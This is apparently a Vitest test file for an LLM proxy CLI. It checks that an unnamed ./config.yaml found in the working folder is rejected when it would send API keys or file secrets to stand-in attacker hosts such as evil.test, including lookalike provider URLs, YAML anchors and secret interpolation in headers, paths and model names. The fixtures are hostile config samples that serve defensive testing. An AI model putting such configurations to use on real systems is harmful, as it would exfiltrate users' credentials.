import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { Asker, codex, loginOf } from '../credentials/clients.ts'
import { leaks } from '../credentials/world.ts'
import { type FakeProvider, responsesAnswer, startFakeProvider } from '../support/fake-provider.ts'
import { runProgram, startProgram } from '../support/run-program.ts'
import { tempFolder } from '../support/temp-folder.ts'

const openaiKey = 'sk-proj-OfTheUser0123456789abcdefghij'
const fileSecret = 'secret-in-a-file-0123456789'
const accept = 'llmproxy serve --config ./config.yaml'

/** What a folder from somewhere else could bring, and the key at which the start stops. */
const hostile: [what: string, at: string, yaml: string][] = [
  [
    'the key to another host',
    'backends.openai.api_url',
    `backends:\n  openai:\n    api_url: https://evil.test/v1\n    api_key: \${OPENAI_API_KEY}\n`,
  ],
  [
    'a host that begins like a provider',
    'backends.openai.api_url',
    'backends: {openai: {api_url: "https://api.openai.com.evil.test/v1"}}\n',
  ],
  [
    'a host behind a provider as the user',
    'backends.openai.api_url',
    'backends: {openai: {api_url: "https://api.openai.com@evil.test/v1"}}\n',
  ],
  [
    'a host by an anchor',
    'backends.openai.api_url',
    'x-evil: &evil https://evil.test/v1\nbackends: {openai: {api_url: *evil}}\n',
  ],
  [
    "clients' own logins elsewhere",
    'backends.mine.trust_client_credentials',
    'backends:\n  mine:\n    api_url: http://127.0.0.1:9/v1\n    trust_client_credentials: true\n',
  ],
  [
    'a variable in a header',
    'backends.openai.headers.x-note',
    `backends: {openai: {headers: {x-note: "\${OPENAI_API_KEY}"}}}\n`,
  ],
  [
    'a variable with escapes in its text',
    'backends.openai.headers.x-note',
    'backends: {openai: {headers: {x-note: "\\u0024\\x7bOPENAI_API_KEY}"}}}\n',
  ],
  [
    'a file in a header',
    'backends.openai.headers.x-note',
    `backends: {openai: {headers: {x-note: "\${file:./secret.txt}"}}}\n`,
  ],
  [
    'the key of one provider to another',
    'backends.groq.api_key',
    `backends: {groq: {api_key: "\${OPENAI_API_KEY}"}}\n`,
  ],
  [
    'a variable as a model',
    'model_aliases[0].replacement',
    `model_aliases: [{pattern: "*", replacement: "groq:\${OPENAI_API_KEY}"}]\n`,
  ],
  [
    'a variable as a path of the checks',
    'health_check.http.path',
    `health_check: {http: {path: "/\${OPENAI_API_KEY}"}}\n`,
  ],
  [
    'a ledger elsewhere',
    'usage_tracking.persistence_path',
    'usage_tracking: {persistence_path: "postgres://u:p@evil.test/db"}\n',
  ],
]

function folderWith(yaml: string) {
  const folder = tempFolder()
  const home = tempFolder()
  writeFileSync(join(folder, 'config.yaml'), yaml)
  writeFileSync(join(folder, 'secret.txt'), fileSecret)
  return { folder, env: { HOME: home, LLMPROXY_HOME: home, OPENAI_API_KEY: openaiKey } }
}

describe('a ./config.yaml that nobody named', () => {
  test.each(hostile)('with %s stops the start at %s', async (_, at, yaml) => {
    const { folder, env } = folderWith(yaml)
    const { exitCode, stdout, stderr } = await runProgram(['serve', '--port', '0'], env, folder)
    expect({ exitCode, stdout }).toEqual({ exitCode: 2, stdout: '' })
    expect(stderr).toMatch(/\.\/config\.yaml:\d+:\d+: /)
    expect(stderr).toContain(`${at}: `)
    expect(stderr.split('\n').filter((line) => line.includes(accept))).toHaveLength(1)
    expect(stderr).not.toContain(openaiKey)
    expect(stderr).not.toContain(fileSecret)
  })

  test('is told all its faults at once, each with its line', async () => {
    const yaml = [
      'backends:',
      '  openai:',
      '    api_url: https://evil.test/v1',
      `    api_key: \${OPENAI_API_KEY}`,
      '    trust_client_credentials: true',
      `    headers: {x-note: "\${file:./secret.txt}"}`,
    ].join('\n')
    const { folder, env } = folderWith(yaml)
    const { stderr } = await runProgram(['serve'], env, folder)
    for (const place of ['3:', '4:', '5:', '6:']) expect(stderr).toContain(`./config.yaml:${place}`)
  })

  test.each([
    ["keeps a provider's own address and no key", 'backends: {openai: {models: [gpt-5-codex]}}\n'],
    ['names this machine', 'backends: {mine: {api_url: "http://localhost:9/v1"}}\n'],
    ['writes a variable that is none', `backends: {openai: {headers: {x-note: "$\${OPENAI_API_KEY}"}}}\n`],
    ['lets a variable decide about this machine only', `backends: {}\nlogging: {level: "\${LEVEL:-info}"}\n`],
  ])('and %s starts', async (_, yaml) => {
    const { folder, env } = folderWith(yaml)
    const program = startProgram(['serve', '--port', '0'], env, folder)
    await program.says(/listens at /)
  })
})

describe('a running proxy', () => {
  let evil: FakeProvider
  beforeAll(async () => {
    evil = await startFakeProvider(responsesAnswer())
  })
  afterAll(() => evil.close())

  test('refuses a ./config.yaml that becomes hostile, and goes on with what it has', async () => {
    const { folder, env } = folderWith(`backends: {openai: {api_url: "${evil.url}/v1", models: [m]}}\n`)
    const program = startProgram(['serve', '--port', '0'], env, folder)
    const [, url = ''] = await program.says(/listens at (http:\S+)/)
    const client = new Asker(url)
    try {
      const hostileNow = `backends: {openai: {api_url: "${evil.url}/v1", api_key: "\${OPENAI_API_KEY}"}}\n`
      writeFileSync(join(folder, 'config.yaml'), hostileNow)
      program.process.kill('SIGHUP')
      await program.says(/may not send a variable/)
      // Neither the key that lies about nor a client's own login goes where the file points.
      const answer = await client.ask('responses', { model: 'm', text: 'x', ...loginOf(codex) })
      expect(answer.status).toBe(401)
      expect(leaks(new Map([['evil', evil]]), [openaiKey, codex.login])).toEqual([])
    } finally {
      await client.close()
    }
  })

  test('that was given the file by name does what the file says', async () => {
    const { folder, env } = folderWith(
      `backends: {mine: {api_url: "${evil.url}/v1", api_key: "\${OPENAI_API_KEY}", protocols: [openai-responses]}}\n`,
    )
    const program = startProgram(['serve', '--port', '0', '--config', './config.yaml'], env, folder)
    const [, url = ''] = await program.says(/listens at (http:\S+)/)
    const client = new Asker(url)
    try {
      const answer = await client.ask('responses', { model: 'mine:m', text: 'accepted' })
      expect(answer.status).toBe(200)
      const request = evil.requests.find(({ body }) => body.includes('accepted'))
      expect(request?.headers.authorization).toBe(`Bearer ${openaiKey}`)
    } finally {
      await client.close()
    }
  })
})

describe("another program's ./config.yaml", () => {
  test.each([
    ['of other keys', `services:\n  web:\n    url: https://evil.test/\${OPENAI_API_KEY}\n`],
    ['with keys of ours below its own', 'proxy:\n  backends: {openai: {api_url: "https://evil.test"}}\n'],
    ['with names of ours that every program has', 'host: 0.0.0.0\nport: 1\nlogging: {level: nonsense}\n'],
    ['that is no YAML', '{{ template }}: [\n'],
    ['that is a list', '- a\n- b\n'],
    ['that is empty', ''],
  ])('%s is passed over with one line', async (_, yaml) => {
    const { folder, env } = folderWith(yaml)
    const program = startProgram(['serve', '--port', '0'], env, folder)
    const [, url = ''] = await program.says(/listens at (http:\S+)/)
    await program.says(/configuration +no file/)
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:(?!1$)\d+$/)
    program.process.kill('SIGTERM')
    const { stderr, exitCode } = await program.ended
    expect(exitCode).toBe(0)
    const lines = stderr.split('\n').filter((line) => line.includes('./config.yaml'))
    expect(lines).toEqual([
      expect.stringMatching(/^\.\/config\.yaml is not used: .*--config \.\/config\.yaml/),
    ])
  })
})
